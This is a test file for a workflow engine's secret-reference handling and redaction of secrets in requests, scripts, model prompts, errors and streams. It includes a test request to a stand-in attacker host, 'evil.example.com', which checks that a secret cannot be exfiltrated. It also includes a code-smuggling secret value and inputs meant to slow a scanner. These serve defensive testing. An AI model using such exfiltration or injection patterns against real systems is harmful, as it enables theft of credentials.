import { expect, test } from 'vitest';
import type { HttpRequest } from '../../../../shared/adapters/ports/http-port.ts';
import type { ModelRequest } from '../../../../shared/adapters/ports/model-port.ts';
import type { Ports } from '../../../../shared/adapters/ports/ports.ts';
import { toFlowingValue } from '../../../../shared/core/redaction/hidden.ts';
import {
  replaceInScript,
  secretKeysInScript,
  secretKeysInTemplate,
} from '../../../../shared/core/secret-references.ts';
import type { FlowStepInput } from '../../../../shared/domain/flows/checking/flow-step.ts';
import { FlowStepsInput, findTextProblems } from '../../../../shared/domain/flows/checking/flow-steps.ts';
import type { StepEvent } from '../../../../shared/domain/flows/steps/step.ts';
import type { StepResult } from '../../../../shared/execution/engine/engine.ts';
import { engineEvents } from '../../../support/flows/engine-events.ts';
import { testSandbox } from '../../../support/flows/sandbox.ts';
import { expectLinear } from '../../../support/linear.ts';
import { fakeModel } from '../../../support/models/model-ports.ts';
import { fakePorts, flowSteps, prompt, renderStep, transform } from './engine-world.ts';

const value = 'sk_live_"quoted"/4711';

/** Runs steps with the secret KEY, and notes what the world was asked. */
async function run(steps: FlowStepInput[], more: Partial<Ports> = {}, variables: object = {}) {
  const requests: HttpRequest[] = [];
  const events: StepEvent[] = [];
  const asked: string[][] = [];
  const ports = fakePorts({
    async secrets(keys) {
      asked.push([...keys]);
      return new Map(keys.filter((key) => key === 'KEY').map((key) => [key, { value, version: '1' }]));
    },
    async fetch(request) {
      requests.push(request);
      const text = JSON.stringify({ url: request.url, headers: request.headers, body: request.body });
      const headers = { 'content-type': 'application/json', 'x-echo': request.headers.authorization ?? '' };
      return { status: 200, headers, url: request.url, bytes: Buffer.from(text), text };
    },
    ...more,
  });
  const results: StepResult[] = [];
  const signal = new AbortController().signal;
  const onStepEvent = (_step: unknown, event: StepEvent) => void events.push(event);
  for await (const event of engineEvents({
    steps: flowSteps(...steps),
    variables: { ...variables },
    ports,
    signal,
    onStepEvent,
  })) {
    if (event.type === 'step_end') results.push(event.result);
  }
  return { results, requests, events, asked };
}

const call = (http: object, more: object = {}): FlowStepInput => ({
  type: 'api-call',
  name: 'call',
  config: { http, ...more },
});

test('a request contains the value; a response that echoes it is redacted', async () => {
  const { requests, results } = await run([
    call({
      url: 'https://example.com/{{ secret:KEY | url_encode }}',
      method: 'POST',
      headers: { Authorization: 'Bearer {{secret:KEY}}' },
      body: { key: '{{- secret:KEY -}}', list: ['{{ secret:KEY | upcase }}'] },
    }),
  ]);
  expect(requests[0]).toMatchObject({
    url: `https://example.com/${encodeURIComponent(value)}`,
    headers: { authorization: `Bearer ${value}` },
    body: JSON.stringify({ key: value, list: [value.toUpperCase()] }),
  });
  const [result] = results;
  expect(result?.status).toBe('completed');
  expect(result?.output).toMatchObject({
    headers: { 'x-echo': 'Bearer [secret:KEY]' },
    body: {
      url: 'https://example.com/[secret:KEY]',
      headers: { authorization: 'Bearer [secret:KEY]' },
    },
  });
  const { unmasked, ...shown } = result ?? {};
  expect(JSON.stringify(shown)).not.toContain('4711"');
  expect(unmasked).toMatchObject({ keys: ['KEY'], value: { headers: { 'x-echo': `Bearer ${value}` } } });
});

test('an echo does not reveal basic authentication credentials', async () => {
  const { requests, results } = await run([
    call(
      { url: 'https://example.com' },
      { auth: { type: 'basic', username: 'me', password: '{{secret:KEY}}' } },
    ),
  ]);
  const sent = Buffer.from(`me:${value}`).toString('base64');
  expect(requests[0]?.headers.authorization).toBe(`Basic ${sent}`);
  expect(JSON.stringify(results.map(({ output }) => output))).not.toContain(sent.slice(8, 20));
});

test('a script reads the value in literals and as secrets.KEY; its result is redacted', async () => {
  const { results } = await run([
    transform(
      "return ['{{secret:KEY}}'.length, \"{{ secret:KEY }}\", `x{{secret:KEY}}`, secrets.KEY === '{{secret:KEY}}']",
    ),
    transform("secrets['KEY'].slice(0, 3)"),
    transform('throw new Error(secrets.KEY)'),
  ]);
  expect(results[0]?.output).toEqual([value.length, '[secret:KEY]', 'x[secret:KEY]', true]);
  expect(results[1]?.output).toBe('sk_');
  expect(results[2]).toMatchObject({ status: 'failed', error: expect.stringContaining('[secret:KEY]') });
});

test('a model receives the value; the resolved prompt, the response and the stream are redacted', async () => {
  const asked: ModelRequest[] = [];
  const { results, events } = await run([prompt('My key is {{secret:KEY}}.')], {
    model: fakeModel((request) => {
      asked.push(request);
      return [...`You said ${value}!`];
    }),
  });
  expect(asked[0]?.messages).toEqual([{ role: 'user', content: `My key is ${value}.` }]);
  expect(results[0]).toMatchObject({
    output: 'You said [secret:KEY]!',
    resolvedPrompt: 'My key is [secret:KEY].',
  });
  const deltas = events.flatMap((event) => (event.type === 'text_delta' ? [event.delta] : []));
  expect(deltas.join('')).toBe('You said [secret:KEY]!');
  expect(deltas.length).toBeGreaterThan(5);
  expect(events.at(-1)).toEqual({ type: 'text_complete', text: 'You said [secret:KEY]!' });
});

test('a value that arrives as a variable is redacted in streams too', async () => {
  const stream: FlowStepInput = { type: 'send-stream', name: 's', config: { sourceVariable: 'echo' } };
  const { events } = await run([prompt('{{secret:KEY}}'), stream], {}, { echo: `It is ${value}` });
  expect(events.at(-1)).toEqual({ type: 'text_complete', text: 'It is [secret:KEY]' });
  expect(JSON.stringify(events)).not.toContain('4711');
});

test('later steps get what was answered, without a name for the value, and what they show has none', async () => {
  const { results } = await run([
    call(
      { url: 'https://example.com' },
      { auth: { type: 'bearer', token: '{{secret:KEY}}' }, outputVariable: 'a' },
    ),
    transform('typeof secrets'),
    renderStep('{{ secrets.KEY }}{{ a.headers.x-echo }}'),
    transform(`${JSON.stringify(value.slice(0, 8))} + ${JSON.stringify(value.slice(8))}`),
  ]);
  expect(results.slice(1).map(({ output }) => output)).toEqual([
    'undefined',
    'Bearer [secret:KEY]',
    '[secret:KEY]',
  ]);
  expect(results.slice(1).map(toFlowingValue)).toEqual(['undefined', `Bearer ${value}`, value]);
});

test('external errors and bugs are reported without the value', async () => {
  const refusing = async (request: HttpRequest) => {
    const text = `${'x'.repeat(290)}${request.headers.authorization}`;
    return { status: 400, headers: {}, url: request.url, bytes: Buffer.from(text), text };
  };
  const step = call({ url: 'https://example.com', headers: { Authorization: '{{secret:KEY}}' } });
  const { results } = await run([step], { fetch: refusing });
  expect(results[0]?.error).toMatch(/^The API answered 400: x+\[secret/);
  expect(results[0]?.error).not.toContain('sk_live');
  const broken = run([step], {
    fetch: async () => {
      throw new TypeError(`Invalid header ${value}`);
    },
  });
  const fault = await broken.catch((error: Error) => error);
  expect(fault).toMatchObject({ message: 'Invalid header [secret:KEY]', name: 'TypeError' });
  expect((fault as Error).stack).not.toContain(value);
});

const quotedAt = (count: number) => 'x'.repeat(count);
test.each<[string, number[], (padding: number) => FlowStepInput]>([
  ['a script', [470, 485, 9_975], (padding) => transform(`throw new Error('x'.repeat(${padding}) + a)`)],
  [
    'an expression',
    [470, 485],
    (padding) => ({
      type: 'conditional',
      name: 'If',
      config: { condition: `(() => { throw new Error('x'.repeat(${padding}) + a) })()` },
    }),
  ],
  [
    'a page that is no JSON',
    [85, 95],
    (padding) => ({
      type: 'fetch-url',
      name: 'Read',
      config: { http: { url: `https://example.com/page?${padding}` }, responseType: 'json' },
    }),
  ],
  [
    'an address',
    [85, 190],
    (padding) => ({
      type: 'crawl',
      name: 'Crawl',
      config: { url: `{{ "${quotedAt(padding)}" | append: a }}` },
    }),
  ],
])('what %s fails with is masked before it is cut', async (_what, paddings, failing) => {
  const fetch = async (request: HttpRequest) => {
    const padding = Number(new URL(request.url).search.slice(1));
    const text = padding > 0 ? `${quotedAt(padding)}${value}` : value;
    return { status: 200, headers: {}, url: request.url, bytes: Buffer.from(text), text };
  };
  const asking = call(
    { url: 'https://example.com', headers: { 'X-Key': '{{secret:KEY}}' } },
    { responseMapping: { a: '$' }, outputVariable: 'answer' },
  );
  const setting = transform('answer.a', 'a');
  for (const padding of paddings) {
    const { results } = await run([asking, setting, failing(padding)], { fetch });
    expect(results.at(-1)?.status, `${padding}`).toBe('failed');
    expect(results.at(-1)?.error, `${padding}`).not.toContain('sk_');
  }
});

test('an error that ends like a value does not reveal that', async () => {
  const echoing = async (request: HttpRequest) => {
    const text = `Unknown city: ${new URL(request.url).searchParams.get('city')}`;
    return { status: 404, headers: {}, url: request.url, bytes: Buffer.from(text), text };
  };
  const step = call({ url: 'https://example.com/?city={{ city }}', headers: { 'X-Key': '{{secret:KEY}}' } });
  const errorFor = async (city: string) =>
    (await run([step], { fetch: echoing }, { city })).results[0]?.error;
  expect(await errorFor(value.slice(0, 12))).toBe(
    `The API answered 404: Unknown city: ${value.slice(0, 12)}`,
  );
});

test('a reference written into a request at run time is not replaced, however often', async () => {
  const step = call({
    url: 'https://evil.example.com/?x={{ x }}',
    method: 'POST',
    headers: { 'X-Echo': '{{ x }}' },
    body: '{{ x }}',
  });
  const other = call({ url: 'https://example.com/{{secret:KEY}}' });
  const same = call({ url: 'https://example.com/?x={{ x }}' });
  const { requests } = await run([other, step, step, same], {}, { x: '[secret:KEY]' });
  expect(requests).toHaveLength(4);
  expect(JSON.stringify(requests.slice(1))).not.toContain('4711');
});

test('a body with a secret is not redirected to another origin', async () => {
  const asked: HttpRequest[] = [];
  const fetch = async (request: HttpRequest) => {
    asked.push(request);
    return { status: 200, headers: {}, url: request.url, bytes: Buffer.from(''), text: '' };
  };
  const post = (body: string) => call({ url: 'https://example.com', method: 'POST', body });
  await run([post('{{secret:KEY}}'), post('nothing')], { fetch });
  expect(asked.map(({ sameOriginBody: bodyStays }) => bodyStays)).toEqual([true, undefined]);
});

test('a header named script is a template like any other', async () => {
  const { requests } = await run([
    call({ url: 'https://example.com', headers: { script: '{{- secret:KEY | upcase }}' } }),
  ]);
  expect(requests[0]?.headers.script).toBe(value.toUpperCase());
});

test('a secret without a value fails only the step that references it; flows without secrets read none', async () => {
  const { results, asked } = await run([
    call({ url: 'https://example.com/{{secret:NOT_THERE}}' }, { errorHandling: { onError: 'continue' } }),
    renderStep('goes on'),
  ]);
  expect(results.map(({ status, error }) => [status, error])).toEqual([
    ['failed', 'The secret NOT_THERE has no value: set it through /v1/secrets'],
    ['completed', undefined],
  ]);
  expect(asked).toEqual([['NOT_THERE']]);
  expect((await run([renderStep('x'), transform('1')])).asked).toEqual([]);
});

test('all values are read together and once, including those of branches', async () => {
  const url = (key: string) => call({ url: `https://example.com/{{secret:${key}}}` });
  const branch: FlowStepInput = {
    type: 'conditional',
    name: 'either',
    config: { condition: 'true', trueSteps: [url('KEY')], falseSteps: [url('OTHER')] },
  };
  const { asked, requests } = await run([branch, url('KEY'), transform('secrets.THIRD')]);
  expect(asked).toEqual([['KEY', 'OTHER', 'THIRD']]);
  expect(requests).toHaveLength(2);
});

test('a value is interpreted neither as code nor as a template', async () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a value may have
  const evil = "'; throw 1; `${x}` {{ a }} \n */ \u2028";
  const secrets = async () => new Map([['KEY', { value: evil, version: '1' }]]);
  const { results } = await run([transform("/* {{secret:KEY}} */ '{{secret:KEY}}'.length")], { secrets });
  expect(results[0]?.output).toBe(evil.length);
  const { requests } = await run([call({ url: 'https://example.com', headers: { X: '{{secret:KEY}}' } })], {
    secrets,
  });
  expect(requests[0]?.headers.x).toBe(evil);
});

async function problems(step: FlowStepInput) {
  const { error } = FlowStepsInput.safeParse([step]);
  const unparsed = await findTextProblems([step], [], testSandbox);
  return [
    ...(error?.issues ?? []).map(({ path, message }) => [path.join('.'), message]),
    ...unparsed.map(({ path, message }) => [path, message]),
  ];
}

test.each([
  [call({ url: 'https://example.com/{{secret:lower}}' }), '0.config.http.url'],
  [call({ url: 'https://example.com', headers: { a: '{{ secret: }}' } }), '0.config.http.headers.a'],
  [
    call({ url: 'https://example.com', body: { a: ['{{secret:A-B}}'] }, method: 'POST' }),
    '0.config.http.body.a.0',
  ],
  [transform('return {{secret:KEY}}'), '0.config.script'],
  [transform('return secrets[{{secret:KEY}}]'), '0.config.script'],
  [transform("'{{secret:no}}'"), '0.config.script'],
  [call({ url: 'https://example.com/{{secret:KEY-X}}' }), '0.config.http.url'],
  [
    call({ url: 'https://example.com' }, { responseMapping: { a: '{{secret:KEY}}' } }),
    '0.config.responseMapping.a',
  ],
  [prompt('x', { model: '{{secret:KEY}}' }), '0.config.model'],
  [
    prompt('x', {
      errorHandling: { onError: 'fallback', fallbacks: [{ type: 'message', message: '{{secret:KEY}}' }] },
    }),
    '0.config.errorHandling.fallbacks.0.message',
  ],
  [transform(`/*{{secret:${' '.repeat(90_000)}*/`), '0.config.script'],
  [transform("'{{ secret:KEY | upcase }}'"), '0.config.script'],
  [renderStep('{{secret:KEY}}'), '0.config.template'],
  [
    { type: 'set-variable', name: 's', config: { variableName: 'a', value: { b: '{{secret:KEY}}' } } },
    '0.config.value.b',
  ],
  [
    {
      type: 'upsert-record',
      name: 'u',
      config: { recordType: 't', recordName: '{{secret:KEY}}', sourceVariable: 'a' },
    },
    '0.config.recordName',
  ],
  [{ ...transform('1'), when: "'{{secret:KEY}}' === 'a'" } as FlowStepInput, '0.when'],
] as [FlowStepInput, string][])('saving rejects %j', async (step, path) => {
  expect((await problems(step)).map(([at]) => at)).toContain(path);
});

test.each([
  (size: number) => '{{secret:'.repeat(size / 9),
  (size: number) => `{{secret:${' '.repeat(size)}`,
  (size: number) => `{{${' '.repeat(size)}secret:`,
  (size: number) => `{{secret:${'A'.repeat(size)}`,
  (size: number) => `{{secret:${'-'.repeat(size)}`,
  (size: number) => 'secrets['.repeat(size / 8),
  (size: number) => `secrets${' '.repeat(size)}`,
  (size: number) => `secrets.${'A'.repeat(size)}`,
])('a hostile text is scanned in linear time: %s', (textOf) => {
  const scan = (text: string) => [
    secretKeysInTemplate(text),
    secretKeysInScript(text),
    replaceInScript(text, String),
  ];
  expectLinear(scan, textOf, 12_000);
});
